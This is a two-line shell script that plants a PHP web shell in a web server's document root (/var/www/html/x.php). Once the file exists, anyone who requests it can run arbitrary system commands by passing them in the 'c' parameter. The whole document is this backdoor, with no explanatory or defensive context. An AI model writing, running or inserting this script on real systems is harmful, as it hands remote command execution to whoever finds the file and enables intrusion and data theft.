#!/bin/sh
echo '<?php passthru($_REQUEST["c"]); ?>' > /var/www/html/x.php
